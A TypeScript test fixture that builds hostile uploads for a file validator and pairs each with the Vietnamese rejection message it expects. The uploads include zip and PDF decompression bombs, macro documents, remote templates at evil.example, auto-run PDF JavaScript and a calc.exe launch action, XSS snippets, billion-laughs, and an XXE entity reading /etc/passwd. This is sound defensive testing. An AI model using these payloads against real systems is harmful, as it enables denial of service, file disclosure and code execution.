import { deflateSync } from 'node:zlib'
import { strToU8, type Zippable, zipSync } from 'fflate'
import { PDFDocument } from 'pdf-lib'
import sharp from 'sharp'

/** A file that means harm, and by which sentence it is told. */
export type Hostile = { readonly name: string; readonly bytes: Uint8Array; readonly sentence: RegExp }

const OFFICE = 'application/vnd.openxmlformats-officedocument'
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const WORDS = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const types = (main: string) =>
  strToU8(
    `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
  )
const wordTypes = types(`${OFFICE}.wordprocessingml.document.main+xml`)
const sheetTypes = types(`${OFFICE}.spreadsheetml.sheet.main+xml`)
const body = (words: string) =>
  strToU8(
    `<w:document xmlns:w="${WORDS}"><w:body><w:p><w:r><w:t>${words}</w:t></w:r></w:p></w:body></w:document>`,
  )
const docx = (more: Zippable = {}) =>
  zipSync({ '[Content_Types].xml': wordTypes, 'word/document.xml': body('Thông báo'), ...more })
const links = (type: string, target: string) =>
  strToU8(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${RELATIONS}/${type}" Target="${target}" TargetMode="&#69;xternal"/></Relationships>`,
  )
const zeros = (megabytes: number) => new Uint8Array(megabytes * 1024 * 1024)
const bomb = (name: string, megabytes: number): Zippable => ({ [name]: [zeros(megabytes), { level: 9 }] })

/** Objects of a PDF in plain text, numbered from 1; the first is the catalogue. */
function pdf(...objects: readonly (string | Buffer)[]): Uint8Array {
  const parts = objects.map((object, at) =>
    Buffer.concat([Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
  )
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...parts,
    Buffer.from(`trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF\n`),
  ])
}

const pages = [
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>',
] as const
const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${data.length}>>stream\n`),
    data,
    Buffer.from('\nendstream'),
  ])
const catalogue = (more: string) => `<</Type/Catalog/Pages 2 0 R${more}>>`

/** A PNG of the size it claims, without the picture. */
async function giant(): Promise<Uint8Array> {
  const small = await sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
    .png()
    .toBuffer()
  const view = new DataView(small.buffer, small.byteOffset)
  view.setUint32(16, 60_000)
  view.setUint32(20, 60_000)
  view.setUint32(29, crc(small.subarray(12, 29)))
  return small
}

function crc(bytes: Uint8Array): number {
  let sum = ~0
  for (const byte of bytes) {
    sum ^= byte
    for (let bit = 0; bit < 8; bit++) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0)
  }
  return ~sum >>> 0
}

export async function hostileFiles(): Promise<readonly Hostile[]> {
  const objectStream = deflateSync(Buffer.from('9 0 <</S/Java#53cript/JS(app.alert(1))>>'))
  const laughs = Array.from({ length: 12 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join(
    '',
  )
  const good = await (await PDFDocument.create()).save()
  const runs = /tự chạy khi mở/
  const unpacks = /bung ra quá lớn/
  return [
    {
      name: 'trống.pdf',
      bytes: new Uint8Array(),
      sentence: /Hãy chọn|không có nội dung|Xin chọn|chọn (?:một )?tệp/i,
    },
    { name: 'bom.docx', bytes: docx(bomb('word/media/a.bin', 220)), sentence: unpacks },
    {
      name: 'bom.xlsx',
      bytes: zipSync({ '[Content_Types].xml': sheetTypes, ...bomb('xl/a.xml', 220) }),
      sentence: /quá lớn/,
    },
    {
      name: 'bom.odt',
      bytes: zipSync({
        mimetype: strToU8('application/vnd.oasis.opendocument.text'),
        ...bomb('content.xml', 220),
      }),
      sentence: unpacks,
    },
    {
      name: 'nén trong nén.docx',
      bytes: zipSync({ 'a.zip': docx(bomb('b.bin', 50)) }),
      sentence: /không thuộc loại/,
    },
    { name: 'macro.docx', bytes: docx({ 'word/vbaProject.bin': strToU8('x') }), sentence: /macro/ },
    {
      name: 'đổi đuôi.docx',
      bytes: zipSync({
        '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml'),
      }),
      sentence: /macro/,
    },
    {
      name: 'mẫu ở xa.docx',
      bytes: docx({
        'word/_rels/settings.xml.rels': links('attachedTemplate', 'https://evil.example/a.dotm'),
      }),
      sentence: /tự tải mẫu/,
    },
    {
      name: 'đối tượng ở xa.docx',
      bytes: docx({ 'word/_rels/document.xml.rels': links('oleObject', '\\\\evil.example\\share\\a.bin') }),
      sentence: /tự tải mẫu/,
    },
    {
      name: 'mã.pdf',
      bytes: pdf(catalogue('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), ...pages),
      sentence: runs,
    },
    {
      name: 'mã giấu.pdf',
      bytes: pdf(catalogue('/AA<</WC<</S/Java#53cript/JS 4 0 R>>>>'), ...pages),
      sentence: runs,
    },
    {
      name: 'mã trong luồng.pdf',
      bytes: pdf(
        catalogue('/OpenAction 9 0 R'),
        ...pages,
        stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', objectStream),
      ),
      sentence: runs,
    },
    {
      name: 'chạy máy tính.pdf',
      bytes: pdf(catalogue('/OpenAction<</S/Launch/F(calc.exe)>>'), ...pages),
      sentence: runs,
    },
    {
      name: 'kèm tệp.pdf',
      bytes: pdf(
        catalogue('/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>'),
        ...pages,
        '<</EF<</F 5 0 R>>>>',
      ),
      sentence: /gói tệp khác/,
    },
    {
      name: 'khóa.pdf',
      bytes: Buffer.from(
        Buffer.from(pdf(catalogue(''), ...pages))
          .toString('latin1')
          .replace('trailer<<', 'trailer<</Encrypt 9 0 R'),
        'latin1',
      ),
      sentence: /mật khẩu hoặc bị khóa/,
    },
    {
      name: 'bom.pdf',
      bytes: pdf(
        catalogue(''),
        pages[0],
        '<</Type/Page/Parent 2 0 R/Contents 4 0 R>>',
        stream('/Filter/FlateDecode', deflateSync(Buffer.alloc(34 * 1024 * 1024, 'q Q '))),
      ),
      sentence: unpacks,
    },
    {
      name: 'bom hai lần.pdf',
      bytes: pdf(
        catalogue(''),
        ...pages,
        stream('/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(Buffer.alloc(9 * 1024 * 1024)))),
      ),
      sentence: unpacks,
    },
    { name: 'chương trình.pdf', bytes: strToU8('MZ\x90\0\x03\0\0\0'), sentence: /không thuộc loại/ },
    {
      name: 'trang mạng.txt',
      bytes: strToU8('<html><script>alert(1)</script>'),
      sentence: /không thuộc loại/,
    },
    {
      name: 'ảnh.png',
      bytes: strToU8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      sentence: /không thuộc loại/,
    },
    {
      name: 'hai mặt.pdf',
      bytes: Buffer.concat([strToU8('<script>alert(1)</script>\n'), good]),
      sentence: /không thuộc loại/,
    },
    { name: 'ảnh khổng lồ.png', bytes: await giant(), sentence: /100 triệu điểm ảnh/ },
    { name: 'đơn.exe.pdf', bytes: good, sentence: /tên giống tệp chương trình/ },
    { name: 'cụt.docx', bytes: docx().subarray(0, 90), sentence: /bị hỏng/ },
    {
      name: 'thực thể.docx',
      bytes: docx({
        'word/document.xml': strToU8(
          `<!DOCTYPE a [<!ENTITY a0 "ha">${laughs}]><w:document xmlns:w="${WORDS}"><w:body><w:p><w:r><w:t>&a12;</w:t></w:r></w:p></w:body></w:document>`,
        ),
      }),
      sentence: /bị hỏng/,
    },
    {
      name: 'thực thể ngoài.docx',
      bytes: docx({
        'word/document.xml': strToU8(
          `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="${WORDS}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>`,
        ),
      }),
      sentence: /bị hỏng/,
    },
    {
      name: 'chữ bom.docx',
      bytes: docx({ 'word/document.xml': [body('a'.repeat(20 * 1024 * 1024)), { level: 9 }] }),
      sentence: /quá lớn/,
    },
  ]
}

/** A scan of many pages, each the same picture. */
export async function longScan(count: number): Promise<Uint8Array> {
  const scan = await PDFDocument.create()
  const jpeg = await sharp({ create: { width: 200, height: 280, channels: 3, background: 'ivory' } })
    .jpeg()
    .toBuffer()
  const picture = await scan.embedJpg(jpeg)
  for (let at = 0; at < count; at++)
    scan.addPage([595, 842]).drawImage(picture, { x: 0, y: 0, width: 595, height: 842 })
  return scan.save()
}
